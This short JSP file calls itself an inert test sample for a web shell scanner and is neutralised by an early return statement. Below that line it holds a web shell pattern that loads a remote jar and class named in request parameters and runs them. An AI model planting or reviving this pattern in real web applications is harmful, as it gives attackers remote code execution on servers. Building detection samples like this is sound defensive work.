<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% java.net.URL[] u = { new java.net.URL(request.getParameter("jar")) };
   Class<?> k = new java.net.URLClassLoader(u).loadClass(request.getParameter("cls"));
   out.print(k.getConstructor(String.class).newInstance(request.getParameter("c"))); %>
